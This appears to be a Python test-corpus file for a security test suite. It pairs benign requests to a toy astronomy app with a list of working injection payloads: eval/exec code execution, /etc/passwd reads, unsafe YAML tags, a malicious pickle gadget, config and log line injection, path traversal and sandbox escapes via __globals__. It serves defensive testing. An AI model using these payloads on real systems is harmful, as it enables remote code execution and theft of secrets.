"""Settings and plans by the standard library."""

import pickle

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.thirteenth import (
    HOWTO,
    MARKUP,
    MOAN,
    PERSONS,
    REGEX,
    SOURCE,
    TALE,
    b64,
    call,
    filled,
    get,
    one,
    post,
)

NEEDS = ()
KEY = "orrery-site-2290"
PASSWD = "root:x:0:0"


class _Run:
    def __init__(self, function: object, *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.function, self.arguments


def _f(text: str, **more: str) -> dict[str, object]:
    return get("/formula", f=text, **more)


def _at(text: str) -> dict[str, object]:
    return get("/at", at=text)


def _show(name: str, show: str) -> dict[str, object]:
    return call("GET", "/targets/{name}", ids={"name": name}, query={"show": show})


def _text(text: str) -> dict[str, object]:
    return call("POST", "/text", text, headers={"Content-Type": "text/plain"})


def _rules(text: str, *rules: dict[str, str]) -> dict[str, object]:
    return post("/rules", text=text, rules=list(rules))


def _state(value: object) -> dict[str, object]:
    return filled("/next", state=pickle.dumps(value, 2).hex(), q=PERSONS[0])


REQUESTS = {
    "formula": [
        _f("sin(x) + 2 * x**2"),
        _f("exp(-x / 2) * pi", n="5"),
        _f("log10(x + 1)"),
        _f("y + 1"),
        _f("1 / x"),
    ],
    "formula_tree": [
        _f("2 * x + 1.5"),
        _f("-x / (x + 1)"),
        _f("__import__('os').system('x')"),
        _f("x ** 2; 1"),
    ],
    "literal": [
        _at("(10.5, -41.25)"),
        _at("{'ra': 1, 'name': \"Orion's\"}"),
        _at("open('x')"),
        _at("5 o'clock"),
    ],
    "literal_old": [
        _at("(10.5, -41.25)"),
        _at("nan"),
        _at("[1, 2, -3.5e4]"),
        _at("{'name': \"Orion's; --\"}"),
    ],
    "attribute": [
        _show("M31", "altitude"),
        _show("Orion's; (M 42) -- x", "label"),
        _show(PERSONS[4], "notes"),
        _show("x", "colour"),
    ],
    "dotted": [
        get("/r", columns="name,ra"),
        get("/r", columns="notes"),
        get("/r", columns="priority,dec,name"),
    ],
    "dotted_fields": [
        get("/r", columns="name,__class__"),
        get("/r", columns="notes,dec"),
        get("/r", columns="it's;x"),
    ],
    "patch_target": [
        post("/t", notes=MOAN, ra=12.5),
        post("/t", name="Orion's -- x", dec=-5),
        post("/t", priority=1, name=MARKUP),
    ],
    "patch_replace": [
        post("/t", notes=SOURCE),
        post("/t", __class__="x"),
        post("/t", name=PERSONS[1], priority=2),
    ],
    "wavelength": [
        get("/w", filter="red"),
        get("/w", filter="Blue"),
        get("/w", filter="__class__"),
        get("/w", filter="o'green; --"),
    ],
    "driver": [
        post("/d", module="fractions", name="Fraction", args=["3/12"]),
        post("/d", module="decimal", name="Decimal", args=["1.50"]),
        post("/d", args=[5, 10]),
    ],
    "driver_listed": [
        post("/d", driver="fraction", arg="3/12"),
        post("/d", driver="title", arg=MOAN),
        post("/d", driver="os.system", arg="id"),
        post("/d", driver="date", arg="2026-02-30"),
    ],
    "ini_read": [
        _text("[a]\nname = O'Brien; DROP\nhome = /x\nlog = %(home)s/log -- old\n"),
        _text("[x]\n# comment\nre = ^a.*$\nlines = one\n  two\n"),
        _text("no section = 1"),
        _text("[p]\nq = 100%\n"),
    ],
    "ini_write": [
        post("/s", subtitle="It's open; come -- 50% off = yes"),
        post("/s", subtitle="[beta] # 2 \U0001f52d"),
        post("/s", subtitle="C:\\sky: the 'best' of %(key)s"),
    ],
    "ini_interpolated": [
        post("/s", banner="Welcome to ${title}, it's 5 o'clock; 100%"),
        post("/s", banner="costs $$5 -- {x} %(y)s"),
        post("/s", banner="$5"),
    ],
    "toml_settings": [
        post("/t", name="O'Brien; DROP -- #1"),
        post("/t", name="Zoë [admin] = x"),
        post("/t", name='a "b" c'),
        post("/t", name="tab\\t"),
    ],
    "csv_line": [
        post("/c", fields=["O'Brien", "saw M31, twice", "guest"]),
        post("/c", fields=["Zoë; x", '-- 5" scope?', "guest"]),
        post("/c", fields=["李", "=1+1", "guest"]),
    ],
    "csv_writer": [
        post("/c", rows=[[PERSONS[2], MOAN], ["a\nb", 'c"d']]),
        post("/c", rows=[["=cmd()", 1, None], [SOURCE, "x"]]),
        post("/c", rows=[]),
    ],
    "schedule": [
        {"jobs": [{"name": "open; it's dark", "after": 5}, {"name": "M31 -- first", "after": "1.5"}]},
        {"jobs": [{"name": SOURCE, "after": 0, "priority": 2}, {"name": "${x}", "after": 0}]},
        {"jobs": []},
    ],
    "order": [
        {"needs": {"report": ["fetch", "clean"], "clean": ["fetch"]}},
        {"needs": {"a'b; --": ["c d"], "c d": []}},
        {"needs": {"x": ["y"], "y": ["x"]}},
    ],
    "task_line": [
        {"line": "move ra=10.5 dec=-41"},
        {"line": 'note text="it\'s dark; go -- 50%"'},
        {"line": "park"},
        {"line": "system cmd='rm -rf /'"},
        {"line": "move ra=ten"},
    ],
    "match": [
        get("/m", re=r"^m\s?\d+"),
        get("/m", re=r"n's|;\s(?:n\.)"),
        get("/m", re="--"),
        get("/m", re="("),
    ],
    "substitute": [
        _rules(
            "Orion's M 42; it's -- big",
            {"find": r"M (\d+)", "with": r"M\1"},
            {"find": "orion|Orion", "call": "upper"},
        ),
        _rules(MOAN, {"find": r"\bI've\b", "with": "We've"}),
        _rules(HOWTO, {"find": r"`[^`]+`", "call": "title"}, {"find": r"\s+", "with": " "}),
    ],
    "yaml_plan": [
        _text("owner: O'Brien; DROP\ntargets:\n  - M31\n  - {name: 'Orion''s', dec: -5.4}\n"),
        _text("owner: !!str 42\ntargets: &t [a, b]\nalso: *t\n"),
        _text("# note\nowner: |\n  it's a\n  block -- text\ntargets: 2026-04-02\n"),
    ],
    "yaml_safe": [
        _text("a: [1, 2.5, yes, 'it''s', 2026-04-02]\nb: {c: null}\n"),
        _text("!!python/object/apply:os.system ['id']"),
        _text('a: "x\n b: ['),
        _text("text: >\n  SELECT 1; -- folded\n"),
    ],
    "yaml_text": [
        post("/y", name="O'Brien's job; #1 -- x: y"),
        post("/y", name="{a: b} & *c"),
        post("/y", name='say "hi"'),
    ],
    "selected": [
        get("/j", path="targets[?dec > `0`].name"),
        get("/j", path="targets[?contains(name, 'n''s')] | length(@)"),
        get("/j", path='sort_by(targets, &dec)[0].{n: name, "d-1": dec}'),
        get("/j", path="targets[?"),
    ],
    "sorted_by": [get("/s", key="name"), get("/s", key="-dec"), get("/s", key="ra"), call("GET", "/s")],
    "sorted_getter": [get("/s", key="-name"), get("/s", key="dec"), get("/s", key="__import__('os')")],
    "pipeline": [
        {"text": "  " + MOAN, "steps": ["strip", "words", "cut"]},
        {"text": SOURCE, "steps": ["upper", "eval", "cut"]},
        {"text": REGEX, "steps": []},
    ],
    "pipeline_builtin": [
        {"value": "42", "steps": ["int", "float"]},
        {"value": [3, 1, 2], "steps": ["sorted", "sum"]},
        {"value": "it's; --", "steps": ["list", "len"]},
    ],
    "decode": [
        post("/d", data=b64("caf\u00e9 -- it's".encode("latin-1")), codec="latin-1"),
        post("/d", data=b64("李小龍"), codec="UTF-8"),
        post("/d", data=b64(b"\xff\xfe"), codec="ascii"),
        post("/d", data=b64("x"), codec="no such; codec"),
    ],
    "log_level": [
        post("/l", level="DEBUG"),
        post("/l", level="WARNING", formatters={"short": {"format": "%(levelname)s - %(message)s -- it's"}}),
        post(
            "/l", formatters={"iso": {"format": "{asctime} {message}", "style": "{", "datefmt": "%Y-%m-%d"}}
        ),
    ],
    "log_message": [
        {"user": "O'Brien; DROP"},
        {"user": "100% %s {x} -- zoë"},
        {"user": "INFO desk <info@example.net>"},
    ],
    "remember": [
        post("/m", name="double", steps=["y = x * 2"]),
        post("/m", name="o'brien; 2", steps=["a = 1.5", "b = round(a * x)"]),
        post("/m", name="none", steps=[]),
    ],
    "replay": [one("/m", name="default"), one("/m", name="it's; new"), one("/m", name="../x")],
    "plugin": [get("/p", name="moon"), get("/p", name="sun-2.1 (beta)"), get("/p", name="o'brien")],
    "packed": [post("/z"), post("/z", main="tool:main"), post("/z", main="tool main; x")],
    "generated": [
        post("/g", fields={"name": "str", "qty": "int"}),
        post("/g", fields={"lines": "list", "open": "bool"}),
        post("/g", fields={"größe": "float"}),
    ],
    "generated_tuple": [
        post("/g", fields=["name", "qty"]),
        post("/g", fields=["x; import os"]),
        post("/g", fields="a b, c"),
        post("/g", fields=["class"]),
    ],
    "number": [get("/n", n="1 234.5"), get("/n", n="12'000"), get("/n", n="-5e3"), get("/n", n="five; --")],
    "state_token": [
        filled("/next", q=MOAN),
        _state({"page": 2, "name": "O'Brien; DROP", "seen": [1, 2.5, None]}),
        filled("/next", q=SOURCE, x=TALE[:300]),
    ],
}

ATTACKS = [
    Attack(
        "Python, eval",
        "formula",
        _f("[x, __import__('os').popen('echo 4242').read()][0] or 1", n="1")
        | _f("float(__import__('os').popen('echo 42.42').read())", n="1"),
        "42.42",
    ),
    Attack(
        "Python, eval", "formula", _f("sum(map(ord, open('/etc/passwd').read(4))) * 1000", n="1"), "452000"
    ),
    Attack(
        "Python, eval",
        "formula",
        _f("(lambda g: len([k for k in g if k == '__builtins__']) * 777)(globals())", n="1"),
        "777",
    ),
    Attack("Python, eval", "literal_old", _at("open('/etc/passwd').readline()"), PASSWD),
    Attack("Python, eval", "literal_old", _at("SITE_KEY"), KEY),
    Attack("Python, eval", "literal_old", _at("[*map(subprocess.getoutput, ['echo pwn$((6*7))'])]"), "pwn42"),
    Attack(
        "Python, eval",
        "literal_old",
        _at("(w := sys.modules['app']) and getattr(w, 'SITE' + chr(95) + 'KEY')"),
        KEY,
    ),
    Attack("attribute", "dotted", get("/r", columns="__init__.__globals__"), KEY),
    Attack("attribute", "dotted", get("/r", columns="name,altitude.__func__.__globals__"), KEY),
    Attack(
        "import",
        "driver",
        post("/d", module="subprocess", name="getoutput", args=["head -1 /etc/passwd"]),
        PASSWD,
    ),
    Attack("import", "driver", post("/d", module="os", name="popen", args=["echo hi"]), "os._wrap_close"),
    Attack(
        "import",
        "driver",
        post("/d", module="app", name="SITE_KEY")
        | post("/d", module="linecache", name="getline", args=["/etc/passwd", 1]),
        PASSWD,
    ),
    Attack(
        "import", "driver", post("/d", module="builtins", name="eval", args=["'pwn' + str(6 * 7)"]), "pwn42"
    ),
    Attack("INI", "ini_write", post("/s", subtitle="x\n[site]\nfolder = /etc"), '\\"folder\\": \\"/etc\\"'),
    Attack("INI", "ini_write", post("/s", subtitle="x\r\n[admin]\r\nallow = all"), "admin"),
    Attack("INI", "ini_interpolated", post("/s", banner="${site:key}"), KEY),
    Attack(
        "INI", "ini_interpolated", post("/s", banner="hello ${site:name} ${site:key}!"), "Hill One " + KEY
    ),
    Attack("TOML", "toml_settings", post("/t", name='x"\nadmin = true\nz = "'), '\\"admin\\": true'),
    Attack(
        "TOML", "toml_settings", post("/t", name='x"\n[server]\nroot = "/etc'), '\\"server\\": {\\"root\\"'
    ),
    Attack("CSV", "csv_line", post("/c", fields=["x\nroot", "all", "admin"]), '\\"rows\\": 2'),
    Attack("CSV", "csv_line", post("/c", fields=["x", 'y,"\nboss,z', "admin"]), '[\\"boss\\"'),
    Attack(
        "Python, eval",
        "substitute",
        _rules("abc", {"find": "abc", "call": "upper() + open('/etc/passwd').readline().strip"}),
        PASSWD,
    ),
    Attack(
        "Python, eval",
        "substitute",
        _rules(
            "abc", {"find": "b", "call": "__class__(__import__('os').popen('echo pwn$((6*7))').read()).strip"}
        ),
        "pwn42",
    ),
    Attack(
        "YAML",
        "yaml_plan",
        _text("owner: !!python/object/apply:subprocess.getoutput ['head -1 /etc/passwd']"),
        PASSWD,
    ),
    Attack("YAML", "yaml_plan", _text("targets: []\nowner: !!python/name:app.SITE_KEY"), KEY),
    Attack(
        "YAML",
        "yaml_plan",
        _text("owner: !!python/object/new:str [!!python/object/apply:eval [\"'pwn' + str(6*7)\"]]"),
        "pwn42",
    ),
    Attack("YAML, text", "yaml_text", post("/y", name='x"\nadd: [ALL]\nz: "'), '\\"add\\": [\\"ALL\\"]'),
    Attack("YAML, text", "yaml_text", post("/y", name='x"\nimage: evil\ncommand: "sh'), "evil"),
    Attack(
        "Python, eval",
        "sorted_by",
        get("/s", key="name if setattr(t, 'name', open('/etc/passwd').readline()) else ''"),
        PASSWD,
    ),
    Attack("Python, eval", "sorted_by", get("/s", key="name if setattr(t, 'name', SITE_KEY) else ''"), KEY),
    Attack("builtins", "pipeline_builtin", {"value": "'pwn' + str(6 * 7)", "steps": ["eval"]}, "pwn42"),
    Attack(
        "builtins",
        "pipeline_builtin",
        {"value": "/etc/passwd", "steps": ["open", "list", "sorted", "str"]},
        PASSWD,
    ),
    Attack("log lines", "log_message", {"user": "x\nERROR admin logged in"}, "ERROR admin"),
    Attack(
        "log lines",
        "log_message",
        {"user": "x\r\nINFO login of root was good"},
        '"INFO login of root was good',
    ),
    Attack(
        "Python, second order",
        "replay",
        one("/m", name="evil"),
        PASSWD,
        before=[
            (
                "remember",
                post(
                    "/m",
                    name="evil",
                    steps=[
                        "w = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]",
                        "z = w.__init__.__globals__['popen']('head -1 /etc/passwd').read()",
                    ],
                ),
            )
        ],
    ),
    Attack(
        "Python, second order",
        "replay",
        one("/m", name="evil2"),
        "pwn42",
        before=[
            (
                "remember",
                post(
                    "/m",
                    name="evil2",
                    steps=["z = abs.__self__.__import__('os').popen('echo pwn$((6*7))').read()"],
                ),
            )
        ],
    ),
    Attack("path, code", "plugin", get("/p", name="../maintenance"), "maintenance-secret"),
    Attack("path, code", "plugin", get("/p", name="../plugins/./../maintenance"), "maintenance-secret"),
    Attack("Python, exec", "generated", post("/g", fields={"name": "open('/etc/passwd').readline"}), PASSWD),
    Attack(
        "Python, exec",
        "generated",
        post(
            "/g", fields={"a = 1\n    import os\n    b = os.popen('echo pwn$((6*7))').read()\n    c": "str"}
        ),
        "pwn42",
    ),
    Attack("pickle", "state_token", _state(_Run(eval, "open('/etc/passwd').readline()")), PASSWD),
    Attack("pickle", "state_token", filled("/next", state=b"capp\nSITE_KEY\n.".hex()), KEY),
    Attack(
        "pickle",
        "state_token",
        filled(
            "/next",
            state=b"\x80\x04\x8c\x0asubprocess\x8c\x09getoutput\x93\x8c\x10echo pwn$((6*7))\x85R.".hex(),
        ),
        "pwn42",
    ),
]
